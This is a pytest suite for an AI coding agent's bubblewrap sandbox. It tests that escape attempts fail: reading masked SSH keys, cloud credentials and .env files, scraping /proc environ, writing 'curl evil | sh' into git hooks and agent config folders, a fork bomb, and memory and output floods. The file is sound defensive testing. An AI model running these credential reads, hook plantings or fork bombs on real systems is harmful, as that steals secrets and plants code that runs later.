"""Each wall of the sandbox, tried with a real escape through real bubblewrap."""

from __future__ import annotations

import os
import secrets
import shutil
import socket
import subprocess
import time
from pathlib import Path

import pytest

from cockpit.sandbox import cgroup
from cockpit.sandbox.boundary import BlockedBy, Limits
from cockpit.sandbox.files import FileWalls
from tests.processes import left_after_call, with_arg, with_text
from tests.sandbox.conftest import Sandbox
from tests.waiting import wait_until_sync


def test_writing_outside_the_workspace_fails_and_says_read_only(sandbox: Sandbox) -> None:
    target = sandbox.outside / "pwned"
    done = sandbox.sh(f"echo owned > {target}")
    assert done.exit_code != 0
    assert not target.exists()
    assert done.blocked_by is BlockedBy.READ_ONLY


def test_writing_through_a_symlink_made_in_the_same_command_stays_inside(
    sandbox: Sandbox,
) -> None:
    target = sandbox.outside / "via-link"
    done = sandbox.sh(f"ln -s {target} link && echo owned > link")
    assert done.exit_code != 0
    assert not target.exists()


def test_writing_inside_works_and_git_commit_works(sandbox: Sandbox) -> None:
    done = sandbox.sh("echo new > file.txt && git add file.txt && git commit -qm 'by agent'")
    assert done.exit_code == 0, done.text
    assert (sandbox.workspace / "file.txt").read_text() == "new\n"
    log = sandbox.sh("git log --format=%s -1")
    assert log.text.strip() == "by agent"


def test_a_masked_ssh_key_cannot_be_read(sandbox: Sandbox) -> None:
    ssh = sandbox.home / ".ssh"
    ssh.mkdir()
    (ssh / "id_ed25519").write_text("PRIVATE KEY\n")
    done = sandbox.sh(f"cat {ssh}/id_ed25519; ls {ssh}")
    assert "PRIVATE KEY" not in done.text
    assert "Permission denied" in done.text
    assert done.blocked_by is BlockedBy.MASKED


def test_a_cloud_credentials_file_and_the_workspace_env_file_are_masked(
    sandbox: Sandbox,
) -> None:
    (sandbox.home / ".aws").mkdir()
    (sandbox.home / ".aws" / "credentials").write_text("aws_secret_access_key=AKIA123\n")
    (sandbox.home / ".netrc").write_text("machine x password hunter2\n")
    (sandbox.workspace / ".env.local").write_text("DB_PASSWORD=swordfish\n")
    done = sandbox.sh(
        "cat ~/.aws/credentials; cat ~/.netrc; cat .env.local; cat $XDG_CONFIG_HOME/cockpit/*"
    )
    for secret in ("AKIA123", "hunter2", "swordfish"):
        assert secret not in done.text


def test_a_workspace_extends_the_masked_list(sandbox: Sandbox) -> None:
    (sandbox.workspace / ".cockpit").mkdir()
    (sandbox.workspace / ".cockpit" / "sandbox.yaml").write_text(
        "masked:\n  workspace: ['*.pem']\n  home: [.config/mytool]\n"
    )
    (sandbox.workspace / "server.pem").write_text("CERT SECRET\n")
    (sandbox.home / ".config" / "mytool").mkdir(parents=True)
    (sandbox.home / ".config" / "mytool" / "token").write_text("TOOL TOKEN\n")
    done = sandbox.sh("cat server.pem ~/.config/mytool/token")
    assert "CERT SECRET" not in done.text
    assert "TOOL TOKEN" not in done.text


def test_the_parents_environment_is_invisible(
    sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    marker = f"COCKPIT_PARENT_ONLY_{secrets.token_hex(4)}"
    monkeypatch.setenv(marker, "sk-ant-parent-secret")
    done = sandbox.sh("cat /proc/*/environ | tr '\\0' '\\n'; ps eww 2>&1; ls /proc")
    assert marker not in done.text
    assert "sk-ant-parent-secret" not in done.text
    assert "HOME=" in done.text  # it did read the sandbox's own environment


@pytest.fixture
def listener() -> socket.socket:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(4)
    return server


def test_a_local_server_is_unreachable_without_network(
    sandbox: Sandbox, listener: socket.socket
) -> None:
    port = listener.getsockname()[1]
    done = sandbox.sh(f"echo hello > /dev/tcp/127.0.0.1/{port}")
    listener.close()
    assert done.exit_code != 0
    assert done.blocked_by is BlockedBy.NETWORK


def test_a_local_server_is_reachable_when_the_boundary_allows_network(
    sandbox: Sandbox, listener: socket.socket
) -> None:
    port = listener.getsockname()[1]
    done = sandbox.sh(f"echo hello > /dev/tcp/127.0.0.1/{port}", sandbox.boundary(network=True))
    conn, _ = listener.accept()
    assert conn.recv(16) == b"hello\n"
    conn.close()
    listener.close()
    assert done.exit_code == 0, done.text


@pytest.mark.parametrize("path", [".git/hooks/pre-commit", ".git/config", ".cockpit/rules/x.yaml"])
def test_git_control_files_and_cockpit_folder_are_read_only(sandbox: Sandbox, path: str) -> None:
    (sandbox.workspace / ".cockpit" / "rules").mkdir(parents=True)
    before = (sandbox.workspace / ".git" / "config").read_text()
    done = sandbox.sh(f"echo 'curl evil | sh' > {path}")
    assert done.exit_code != 0
    assert done.blocked_by is BlockedBy.READ_ONLY
    assert not (sandbox.workspace / ".git" / "hooks" / "pre-commit").exists()
    assert not (sandbox.workspace / ".cockpit" / "rules" / "x.yaml").exists()
    assert (sandbox.workspace / ".git" / "config").read_text() == before


def test_a_background_process_is_dead_after_the_call(sandbox: Sandbox) -> None:
    nap = f"1000.{secrets.randbelow(10**6)}"
    started = time.monotonic()
    done = sandbox.sh(f"nohup sleep {nap} > /dev/null 2>&1 & setsid sleep {nap} & echo started")
    assert done.text.strip() == "started"
    assert time.monotonic() - started < 10
    assert left_after_call(with_arg, nap) == []


def test_a_background_job_holding_the_output_pipe_does_not_hold_the_call(
    sandbox: Sandbox,
) -> None:
    nap = f"1000.{secrets.randbelow(10**6)}"
    started = time.monotonic()
    done = sandbox.sh(f"sleep {nap} & echo started")
    assert time.monotonic() - started < 10
    assert done.text.strip() == "started"
    assert left_after_call(with_arg, nap) == []


def test_tmp_is_fresh(sandbox: Sandbox) -> None:
    mine = Path("/tmp") / f"cockpit-host-{secrets.token_hex(4)}"
    mine.write_text("host tmp\n")
    try:
        listing = sandbox.sh("ls -A /tmp")
        assert listing.exit_code == 0
        assert listing.text == ""  # nothing of the host's /tmp
        inside = f"cockpit-inside-{secrets.token_hex(4)}"
        wrote = sandbox.sh(f"echo x > /tmp/{inside} && cat /tmp/{inside}")
        assert wrote.text == "x\n"  # writable inside...
        assert not (Path("/tmp") / inside).exists()  # ...and gone with the call
    finally:
        mine.unlink()


def test_a_200_mb_output_is_stopped_at_the_limit_without_hurting_the_caller(
    sandbox: Sandbox,
) -> None:
    limits = Limits(output_bytes=8 * 1024**2, timeout_s=60)
    done = sandbox.sh("head -c 200000000 /dev/zero; echo tail", sandbox.boundary(limits=limits))
    assert done.blocked_by is BlockedBy.OUTPUT and done.exit_code != 0
    assert b"tail" not in done.output  # stopped, not read to its end
    assert len(done.output) < 2 * 1024**2  # the executor keeps a head and a tail, no more
    assert sandbox.sh("echo next").text == "next\n"


def test_a_fork_bomb_is_stopped_by_the_process_limit(sandbox: Sandbox) -> None:
    token = f"bomb{secrets.token_hex(4)}"
    limits = Limits(processes=64, timeout_s=5)
    started = time.monotonic()
    done = sandbox.sh(
        f"{token}() {{ {token} | {token} & }}; {token}; sleep 1", sandbox.boundary(limits=limits)
    )
    assert "Resource temporarily unavailable" in done.text  # the limit stopped it
    assert time.monotonic() - started < 15  # the call ended on time
    assert left_after_call(with_text, token) == []  # with nothing it started left


def test_the_process_limit_counts_the_sandbox_alone(sandbox: Sandbox) -> None:
    nap = f"5.{secrets.randbelow(10**6)}"
    limits = Limits(processes=12, timeout_s=30)
    done = sandbox.sh(
        # bash gives up its script when a fork fails: the loop runs in a subshell
        f"(for i in $(seq 30); do sleep {nap} & done) 2>/dev/null; p=(/proc/[0-9]*); "
        "echo ${#p[@]}",
        sandbox.boundary(limits=limits),
    )
    assert done.text.split(), done
    running = int(done.text.split()[-1])  # counted by bash itself: no fork needed
    assert 2 <= running <= 12


def test_a_command_past_its_timeout_is_killed(sandbox: Sandbox) -> None:
    started = time.monotonic()
    done = sandbox.sh("sleep 30", sandbox.boundary(limits=Limits(timeout_s=0.5)))
    assert done.timed_out
    assert done.blocked_by is BlockedBy.TIMEOUT
    assert time.monotonic() - started < 10


def test_the_explicit_env_is_all_the_command_sees(sandbox: Sandbox) -> None:
    os.environ["COCKPIT_SHOULD_NOT_LEAK"] = "1"
    try:
        done = sandbox.sh("env")
    finally:
        del os.environ["COCKPIT_SHOULD_NOT_LEAK"]
    assert "COCKPIT_SHOULD_NOT_LEAK" not in done.text
    assert f"HOME={sandbox.home}" in done.text


def test_no_cgroup_of_a_call_is_left_behind(sandbox: Sandbox) -> None:
    mine = f"cockpit-sandbox-{os.getpid()}-"
    sandbox.sh("sleep 1000 & sleep 1000 & echo two left running")
    sandbox.sh("sleep 30", sandbox.boundary(limits=Limits(timeout_s=0.3)))
    # removed beside the call, once the kernel has let go of the last process
    wait_until_sync(lambda: not _cgroups_named(mine), "the call's cgroups to go")


def _cgroups_named(prefix: str) -> list[str]:
    """Cgroup folders whose name starts with `prefix`, at any depth (v1 or v2); a folder
    removed while we look is simply not there (os.walk skips what it cannot read)."""
    return [
        name
        for _folder, dirs, _files in os.walk("/sys/fs/cgroup")
        for name in dirs
        if name.startswith(prefix)
    ]


def _files_under(folder: Path) -> list[Path]:
    return [p for p in folder.rglob("*") if not p.is_dir()]


@pytest.mark.parametrize(
    ("command", "folder"),
    [
        ("mkdir -p .claude && echo '{}' > .claude/settings.json", ".claude"),
        ("mkdir -p .cockpit/rules && echo 'x: 1' > .cockpit/rules/x.yaml", ".cockpit"),
        ("mkdir -p .git/hooks; echo 'curl evil | sh' > .git/hooks/pre-commit", ".git/hooks"),
        ("echo 'x' > .codex/config.toml", ".codex"),
    ],
)
def test_protected_folders_that_do_not_exist_yet_cannot_be_made(
    sandbox: Sandbox, command: str, folder: str
) -> None:
    shutil.rmtree(sandbox.workspace / ".git" / "hooks")  # as in a clone made without hooks
    done = sandbox.sh(command)
    assert done.exit_code != 0
    assert done.blocked_by is BlockedBy.READ_ONLY, done.text
    made = sandbox.workspace / folder
    assert made.is_dir()  # what is left: the empty mount point...
    assert _files_under(made) == []  # ...and nothing in it
    status = subprocess.run(
        ["git", "status", "--porcelain"], cwd=sandbox.workspace, capture_output=True, text=True
    )
    assert status.stdout == ""  # git does not see empty folders


def test_git_commit_works_with_the_protected_folders_mounted(sandbox: Sandbox) -> None:
    shutil.rmtree(sandbox.workspace / ".git" / "hooks")
    done = sandbox.sh("echo more >> README && git commit -qam 'by agent' && git log -1 --format=%s")
    assert done.exit_code == 0, done.text
    assert done.text.strip() == "by agent"


def test_a_workspace_rule_unmasks_an_env_example_and_nothing_else(sandbox: Sandbox) -> None:
    (sandbox.workspace / ".cockpit").mkdir()
    (sandbox.workspace / ".cockpit" / "sandbox.yaml").write_text(
        "unmasked:\n  workspace: ['.env.example']\n"
    )
    (sandbox.workspace / ".env.example").write_text("DB_PASSWORD=changeme\n")
    (sandbox.workspace / ".env").write_text("DB_PASSWORD=swordfish\n")
    done = sandbox.sh("cat .env.example; cat .env")
    assert "changeme" in done.text
    assert "swordfish" not in done.text


def test_an_env_file_made_after_a_boundary_was_built_is_masked_in_the_next(
    sandbox: Sandbox,
) -> None:
    config = sandbox.workspace / "app" / "config"
    config.mkdir(parents=True)
    an_hour_ago = time.time() - 3600
    for folder in (sandbox.workspace, config.parent, config):
        os.utime(folder, (an_hour_ago, an_hour_ago))  # settled: their listings are cached
    assert sandbox.sh("ls app/config").exit_code == 0
    (config / ".env").write_text("API_TOKEN=late-secret\n")
    done = sandbox.sh("cat app/config/.env")
    assert "late-secret" not in done.text
    assert "Permission denied" in done.text


def test_a_boundary_is_built_in_milliseconds_in_a_big_workspace(sandbox: Sandbox) -> None:
    for a in range(20):
        for b in range(20):
            deep = sandbox.workspace / f"pkg{a}" / f"mod{b}" / "src" / "deep"
            deep.mkdir(parents=True)
            for f in range(25):  # 10,000 files, 2,000 folders
                (deep / f"f{f}.py").touch()
    sandbox.boundary()
    timings = []
    for _ in range(21):
        started = time.perf_counter()
        FileWalls.of(sandbox.boundary(), sandbox.env).writable(Path("pkg1/mod1/new.py"))
        timings.append(time.perf_counter() - started)
    # ~3.5 ms here on a 20k-file tree, boundary and file check together; the bound is
    # loose for a busy CI machine
    assert sorted(timings)[10] < 0.05


def test_node_and_webassembly_start_under_the_default_limits(sandbox: Sandbox) -> None:
    done = sandbox.sh(
        "node -e 'console.log(1)' && "
        "node -e 'new WebAssembly.Memory({initial: 1}); console.log(2)' && "
        "python3 -c 'print(3)' && git --version >/dev/null && echo 4"
    )
    assert done.text.split() == ["1", "2", "3", "4"], done.text


def test_a_command_allocating_past_the_memory_limit_dies_and_the_caller_survives(
    sandbox: Sandbox,
) -> None:
    limits = Limits(memory_bytes=256 * 1024**2, timeout_s=60)
    done = sandbox.sh(
        'python3 -c \'x = b"x" * (512 * 1024 * 1024); print("allocated")\'',
        sandbox.boundary(limits=limits),
    )
    assert done.exit_code != 0
    assert "MemoryError" in done.text
    assert "allocated" not in done.text
    assert sandbox.sh("echo still here").text == "still here\n"


def test_a_memory_cgroup_caps_the_call_as_a_whole(sandbox: Sandbox) -> None:
    # three processes of 150 MB each: every one under a per-process cap of 256 MB,
    # together past the call's. Each holds its memory until it is killed, so the first to
    # end was ended by the kernel; then the others are stopped
    hog = "import signal; x = b'x' * (150 * 1024 * 1024); signal.pause()"
    script = (
        f'for i in 1 2 3; do python3 -c "{hog}" & done; wait -n; echo $?; '
        "kill -9 $(jobs -p) 2>/dev/null; wait"
    )
    assert cgroup.memory_available()  # root here and in CI: the cgroup is made
    with cgroup.limits(None, 256 * 1024**2) as join:
        assert join is not None
        proc = subprocess.run(
            ["bash", "-c", script], preexec_fn=join, capture_output=True, text=True, timeout=60
        )
    # the first hog to end was killed by the kernel (SIGKILL), inside the call alone
    assert proc.stdout.split() == ["137"]
    assert sandbox.sh("echo still here").text == "still here\n"


def test_a_protected_folder_that_is_a_symlink_is_protected_where_it_leads(
    sandbox: Sandbox,
) -> None:
    shutil.rmtree(sandbox.workspace / ".git" / "hooks")
    (sandbox.workspace / ".githooks").mkdir()
    (sandbox.workspace / ".git" / "hooks").symlink_to("../.githooks")
    (sandbox.outside / "shared-claude").mkdir()
    (sandbox.workspace / ".claude").symlink_to(sandbox.outside / "shared-claude")
    done = sandbox.sh("echo 'curl evil | sh' > .git/hooks/pre-commit; echo x > .claude/s; ls")
    assert "README" in done.text  # the sandbox still starts
    assert not (sandbox.workspace / ".githooks" / "pre-commit").exists()
    assert list((sandbox.outside / "shared-claude").iterdir()) == []
